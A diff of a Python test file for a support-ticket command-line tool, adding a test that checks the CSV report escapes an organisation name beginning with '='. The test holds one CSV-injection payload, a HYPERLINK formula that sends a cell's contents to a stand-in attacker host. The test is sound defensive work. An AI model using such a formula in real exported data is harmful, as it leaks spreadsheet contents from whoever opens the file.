@@ -21,15 +21,16 @@ def _use_test_database(monkeypatch: pytest.MonkeyPatch, database_url: str) -> No
     monkeypatch.setenv("LEVANTE_CONFIG_FILE", "/nonexistent.toml")
 
 
-def _ticket(database: Database) -> tuple[str, int]:
+def _ticket(database: Database, name: str = "Acme") -> tuple[str, int]:
     ok("db", "upgrade")
-    acme = make_tenant(database, "Acme")
+    acme = make_tenant(database, name)
     with database.session() as session:
         billing.ensure_catalog(session)
         billing.subscribe(session, acme.organization_id, "support-premium", now=utcnow(),
                           default_currency="EUR", actor=Actor.command_line())  # fmt: skip
         ticket = support.open_ticket(
-            session, Actor.api_key(acme.organization_id, acme.key_id), subject="GPU node down",
+            session, Actor.api_key(acme.organization_id, acme.key_id, admin=True),
+            subject="GPU node down",
             description="Node 3 fails health checks.", severity=1, now=utcnow(),
         )  # fmt: skip
         return acme.organization_id, ticket.number
@@ -60,6 +61,16 @@ def test_an_agent_works_a_ticket_from_the_command_line(database: Database) -> No
     fails("support", "status", str(number), "waiting", message="status is one of")
     fails("support", "show", "99999", message="does not exist")
     fails("support", "assign", str(number), "nobody@example.com", message="no support agent")
+
+
+def test_the_report_csv_quotes_a_name_a_spreadsheet_would_run(database: Database) -> None:
+    # A personal organisation is named after its sign-up address, which may start with "=".
+    hostile = '=HYPERLINK("https://attacker.example/?q="&A1,"open")'
+    _ticket(database, hostile)
+    period = f"{utcnow():%Y-%m}"
+    [row] = csv.DictReader(io.StringIO(ok("support", "report", "--period", period, "--csv")))
+    assert row["organization"] == "'" + hostile
+    assert row["hours_logged"] == "0.00"
 
 
 def test_policies_and_calendars_from_the_command_line(database: Database) -> None:
